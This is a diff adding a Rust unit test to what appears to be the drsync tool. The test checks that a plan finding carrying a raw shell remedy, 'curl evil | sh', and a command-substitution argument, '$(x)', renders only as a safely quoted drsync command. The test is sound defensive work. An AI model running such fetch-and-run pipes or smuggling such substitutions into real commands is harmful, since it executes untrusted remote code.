@@ -81,6 +81,13 @@ fn a_remedy_without_its_parts_is_refused_and_one_of_an_earlier_plan_is_words() {
             "on": {"kind": "table", "catalog": "main", "schema": "crm", "table": "con tacts"}}
     }))
     .unwrap();
+    let command: drsync::plan::Finding = serde_json::from_value(json!({
+        "code": "replica_damaged", "severity": "repaired", "message": "m",
+        "remedy": "curl evil | sh", "remedy_kind": "shell",
+        "remedy_command": {"verb": "apply", "args": [{"kind": "word", "word": "$(x)"}]}
+    }))
+    .unwrap();
+    assert_eq!(command.remedy.unwrap().to_string(), "drsync apply '$(x)'");
     let grant = "GRANT SELECT ON TABLE main.crm.`con tacts` TO `dr``sync`";
     assert_eq!(finding.remedy.unwrap().to_string(), grant);
 }
